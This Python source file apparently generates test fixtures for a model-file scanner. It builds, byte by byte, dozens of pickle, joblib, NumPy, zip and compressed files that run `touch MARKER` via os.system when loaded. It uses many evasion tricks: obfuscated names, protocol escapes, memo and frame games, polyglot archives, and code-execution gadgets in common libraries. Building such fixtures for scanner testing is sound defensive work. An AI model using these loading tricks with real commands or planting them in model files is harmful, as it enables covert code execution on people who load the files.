"""Model files that run `touch MARKER` when somebody loads them, each by another trick; made byte by byte."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zipfile
import zlib

import numpy as np
from modelfiles import Touching


def text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def made_text(value: str) -> bytes:
    """A text that only loading would tell."""
    return name("builtins", "str") + text(value) + b"\x85R"


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def long_bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


class Marker(str):
    """A file to touch; `hidden` payloads do not write `os.system` out, so that no search for names finds them."""

    __slots__ = ()
    hidden = False


class HiddenMarker(Marker):
    __slots__ = ()
    hidden = True


def command(marker: Marker) -> bytes:
    """Opcodes that run the command and leave its answer."""
    system = made_text("os") + made_text("system") + b"\x93" if marker.hidden else name("os", "system")
    return system + text(f"touch {marker}") + b"\x85R"


def whole(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def dtype(code: str = "u1", order: str = "|", state: bytes | None = None) -> bytes:
    told = state or b"(K\x03" + text(order) + b"NNN" + number(-1) + number(-1) + number(0) + b"tb"
    return name("numpy", "dtype") + text(code) + b"\x89\x88\x87R" + told


OBJECTS = b"(K\x03" + text("|") + b"NNN" + number(-1) + number(-1) + number(63) + b"tb"
NEW = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"


def shape(count: int) -> bytes:
    return number(count) + b"\x85"


def attributes(count: int, kind: bytes, more: bytes = b"") -> bytes:
    told = text("subclass") + name("numpy", "ndarray") + text("shape") + shape(count) + text("order") + text("C")
    return b"}(" + told + text("dtype") + kind + text("allow_mmap") + b"\x89" + more + b"u"


def array(count: int, kind: bytes | None = None, more: bytes = b"", new: bytes = NEW) -> bytes:
    """joblib's announcement of an array of one dimension."""
    return new + attributes(count, kind or dtype(), more) + b"b"


def swallowed(evil: bytes, size: int) -> bytes:
    """Bytes that are `size` bytes of array to joblib, and opcodes that swallow `evil` to a plain reading."""
    fill = size - 6
    return b"0" + b"N0" * (fill // 2) + b"B" + struct.pack("<I", len(evil))


def hostile(marker: Marker) -> dict[str, bytes]:
    """`{kind: file}`."""
    evil = b"0" + command(marker) + b"0N."
    return _arrays(marker, evil) | _nested(marker, evil) | _plain(marker) | _names(marker) | _wrapped(marker)


def _arrays(marker: Marker, evil: bytes) -> dict[str, bytes]:
    """joblib reads an array of another length than a careless scanner thinks."""
    size = 1 + len(evil)
    key = made_text("shape") + shape(1)
    body = b"\xff" + evil + b"."
    hidden = swallowed(evil, 32) + evil + b"."
    twice = NEW + b"\x94" + attributes(size, dtype()) + b"b" + b"\xff" * size
    memo = NEW + b"q\x00" + attributes(1, dtype()) + b"b\xff" + b"h\x00" + attributes(1, dtype()) + b"b\xff" + evil
    aligned = text("numpy_array_alignment_bytes")
    pad = b"0B" + struct.pack("<I", len(evil))
    setting = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b"N}" + aligned + b"K\x10s\x86b0"
    void = b"(K\x03" + text("|") + b"NNN" + number(32) + number(1) + number(0) + b"tb"
    return {
        "a code without digits": whole(array(8, dtype("f", "<")) + hidden)[:-1],
        "an item size in the state": whole(array(1, dtype("V1", state=void)) + hidden)[:-1],
        "a key made by a call": whole(array(size, more=key) + body)[:-1],
        "slots": whole(NEW + attributes(size, dtype()) + b"}" + text("shape") + shape(1) + b"s\x86b" + body)[:-1],
        "a wrapper that is built twice": whole(memo)[:-1],
        "a wrapper in the memo": whole(twice + b"0h\x00" + attributes(1, dtype()) + b"b\xff" + evil)[:-1],
        "an alignment of another type": whole(array(1, more=aligned + b"\x88") + b"\x06" + pad + b"\xff" + evil)[:-1],
        "an alignment made by a call": whole(
            array(1, more=aligned + name("builtins", "int") + b"K\x10\x85R") + b"\x06" + pad + b"\xff" + evil
        )[:-1],
        "padding that holds opcodes": whole(array(1, more=aligned + b"K\x10") + b"\x30" + b"N" * 0x30 + b"\xff" + evil),
        "an attribute of the class": whole(setting + array(1) + b"\x06" + pad + b"\xff" + evil)[:-1],
        "another dict": whole(b"}q\x00" + array(size, more=text("order") + b"X\x01\0\0\0C") + body)[:-1],
        "a frame around an array": b"\x80\x04\x95"
        + struct.pack("<Q", len(array(1)) + len(evil) + 1)
        + array(1)
        + b"\xff"
        + evil,
    }


def _nested(marker: Marker, evil: bytes) -> dict[str, bytes]:
    ops = b"0B" + struct.pack("<I", len(evil))
    value = name("numpy._core.multiarray", "_reconstruct") + name("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R"
    long_frame = b"\x80\x04\x95" + struct.pack("<Q", len(value) + 1 + len(ops)) + value + b"." + ops
    plain = b"0" + made_text("os") + made_text("system") + b"\x93" + text(f"touch {marker}") + b"\x85R0N."
    objects = dtype("O8", state=OBJECTS)
    # The outer memo holds the names that the inner pickle takes for its own.
    outer = text("os") + b"\x94" + text("system") + b"\x94" + text(f"touch {marker}") + b"\x94" + b"\x87"
    inner = text("numpy") + b"\x94" + text("ndarray") + b"\x94" + text("x") + b"\x94\x87"
    inner += b"0h\x00h\x01\x93h\x02\x85R"
    return {
        "a frame that passes its stop": whole(array(1, objects) + long_frame + evil)[:-1],
        "opcodes for a plain reading": whole(array(len(plain)) + plain),
        "two memos": whole(outer + array(1, objects) + whole(inner)),
        "objects that are a call": whole(array(1, objects) + whole(command(marker)) + b"."),
    }


def _plain(marker: Marker) -> dict[str, bytes]:
    cmd = f"touch {marker}".encode()
    touching = Touching(marker)
    rot13 = name("_codecs", "encode") + text("bf") + text("rot13") + b"\x86R"
    partial = name("functools", "partial") + name("os", "system") + text(f"touch {marker}") + b"\x86R"
    hole, late = b"j\xff\xff\0\0", text("system") + b"\x93" + text(f"touch {marker}") + b"\x85R"
    deep = b"(" * 2000 + b"t" * 2000
    many = b"".join(pickle.dumps(i) for i in range(20))
    return {
        "escapes of protocol 0": b"\x80\x04V\\u006f\\u0073\nV\\u0073ystem\n\x93V" + cmd + b"\n\x85R.",
        "texts of Python 2": b"\x80\x04S'o\\x73'\nS'syst\\x65m'\n\x93V" + cmd + b"\n\x85R.",
        "inst": b"(V" + cmd + b"\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nV" + cmd + b"\no.",
        "a codec": whole(rot13 + text("system") + b"\x93" + text(f"touch {marker}") + b"\x85R"),
        "a call of a call": whole(partial + b")R"),
        "a memo with holes": whole(text("os") + hole.replace(b"j", b"r") + b"0N0" + hole + late),
        "depth": whole(deep + b"0" + command(marker)),
        "getattr": whole(
            name("builtins", "getattr") + name("os", "environ") + text("get") + b"\x86R0" + command(marker)
        ),
        "a second pickle": pickle.dumps([1]) + pickle.dumps(touching),
        "the twenty-first pickle": many + pickle.dumps(touching),
        "after the end": pickle.dumps([1]) + b"cos\nsystem\n(V" + cmd + b"\ntR.",
        "a class of a dict": whole(name("collections", "OrderedDict") + b")R" + command(marker) + b"N\x86b"),
        "a build on a class": whole(
            name("collections", "OrderedDict") + b"N}" + text("x") + command(marker) + b"s\x86b"
        ),
        "popped": whole(command(marker) + b"0N"),
        "a frame in a frame": b"\x80\x04\x95"
        + struct.pack("<Q", 9 + len(command(marker)) + 1)
        + b"\x95"
        + struct.pack("<Q", len(command(marker)) + 1)
        + command(marker)
        + b".",
    }


def _names(marker: Marker) -> dict[str, bytes]:
    """Modules that only misuse what a model has no use for."""
    code = f"__import__('os').system('touch {marker}')"
    created = (
        name("dataclasses", "_create_fn") + text("f") + b"]" + text("x=" + code) + b"a]" + text("pass") + b"a\x87R"
    )
    inner = long_bytes(whole(command(marker)))
    loaded = name("numpy.lib._npyio_impl", "load") + name("io", "BytesIO") + inner + b"\x85RN\x88\x87R"
    timed = name("timeit", "timeit") + text(code) + text("pass") + b"\x86R"
    evaluated = name("sympy.core.sympify", "sympify") + text(code) + b"\x85R"
    return {
        "dataclasses": whole(created + b"a\x87R"),
        "uuid": whole(name("uuid", "_get_command_stdout") + text("touch") + text(str(marker)) + b"\x86R"),
        "numpy.load": whole(loaded),
        "timeit": whole(timed),
        "a package nobody knows": whole(evaluated),
        "pandas.eval": whole(name("pandas.core.computation.eval", "eval") + text(code) + b"\x85R"),
        "a module that a module imports": whole(name("sklearn.utils.fixes", "sys.modules") + command(marker) + b"\x86"),
        "a function of a usual package": whole(
            name("pandas.core.common", "pipe") + text(f"touch {marker}") + name("os", "system") + b"\x86R"
        ),
        "code in a distribution": whole(_distribution(code)),
        "code in a distribution's pairs": whole(_distribution(code, pairs=True)),
        "a constructor that calls": whole(
            name("numpy.random._pickle", "__generator_ctor") + text(f"touch {marker}") + name("os", "system") + b"\x86R"
        ),
        "an object with its own maker": whole(
            name("sklearn.neighbors._kd_tree", "newObj")
            + (name("functools", "partial") + name("pandas", "DataFrame.query") + b"\x85R")
            + b"\x85R"
        ),
        "a formula": whole(name("statsmodels.base.model", "Model") + b")\x81}" + text("formula") + text(code) + b"sb"),
        "a writer of a usual package": whole(name("pandas", "HDFStore") + text(str(marker)) + b"\x85R"),
        "the command line of XGBoost": whole(name("xgboost.testing", "run") + text(str(marker)) + b"\x85R"),
    }


def _distribution(code: str, *, pairs: bool = False) -> bytes:
    """scipy's distributions run a text of their state when they are loaded."""
    made = name("scipy.stats._continuous_distns", "norm_gen") + b")\x81"
    if pairs:
        return made + b"]" + text("_parse_arg_template") + text(code) + b"\x86ab"
    return made + b"}" + text("_parse_arg_template") + text(code) + b"sb"


def _zipped(entries: dict[str, bytes] | list[tuple[str, bytes]], comment: bytes = b"") -> bytes:
    file = io.BytesIO()
    rows = entries.items() if isinstance(entries, dict) else entries
    with zipfile.ZipFile(file, "w") as archive:
        for entry, data in rows:
            archive.writestr(entry, data)
        archive.comment = comment
    return file.getvalue()


def _wrapped(marker: Marker) -> dict[str, bytes]:
    evil, good = pickle.dumps(Touching(marker)), pickle.dumps({"a": 1}, 2)
    saved = io.BytesIO()
    np.save(saved, np.array([Touching(marker)], dtype=object))
    npz = io.BytesIO()
    np.savez(npz, a=np.array([Touching(marker)], dtype=object))
    polyglot = io.BytesIO(npz.getvalue())
    with zipfile.ZipFile(polyglot, "a") as archive:
        archive.writestr("data.pkl", good)
    protocol_0 = b"cos\nsystem\n(V" + f"touch {marker}".encode() + b"\ntR."
    gap = _zipped({"archive/data.pkl": good})
    at = gap.index(b"PK\x01\x02")
    header = saved.getvalue()
    return {
        "npy": header,
        "npy of another type": header.replace(b"'|O'", b"'<O'"),
        "npz": npz.getvalue(),
        "npz and pickle": polyglot.getvalue(),
        "an unread entry": _zipped({"archive/data.pkl": good, "archive/readme.txt": protocol_0}),
        "a storage nobody asked for": _zipped({"archive/data.pkl": good, "archive/data/0": protocol_0}),
        "a name that comes twice": _zipped([("a/data.pkl", good), ("A/data.pkl", good)]),
        "a torch script": _zipped({"a/data.pkl": good, "a/code/__torch__.py": protocol_0}),
        "bytes between entries": gap[:at] + evil * 3 + gap[at:],
        "a comment": _zipped({"a/data.pkl": good}, evil),
        "a zip behind a pickle": pickle.dumps([1]) + _zipped({"a/data.pkl": evil}),
        "gzip": gzip.compress(evil),
        "gzip in gzip": gzip.compress(gzip.compress(evil)),
        "a second gzip member": gzip.compress(pickle.dumps([1])) + gzip.compress(evil),
        "a second bz2 stream": bz2.compress(pickle.dumps([1])) + bz2.compress(evil),
        "a second xz stream": lzma.compress(pickle.dumps([1])) + lzma.compress(evil),
        "zlib and more": zlib.compress(pickle.dumps([1])) + evil,
        "an array of npz in gzip": gzip.compress(npz.getvalue()),
    }
